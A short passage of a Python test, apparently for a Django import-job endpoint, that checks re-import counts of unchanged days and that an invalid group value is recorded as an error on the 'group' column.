    again = ImportJob.objects.get(pk=post(reviewer, good.getvalue()).json()["id"])
    assert again.counts["days"]["unchanged"] == 3
    bad = post(reviewer, b"x", group="nobody")
    assert bad.status_code == 202
    assert ImportJob.objects.get(pk=bad.json()["id"]).errors[0]["column"] == "group"
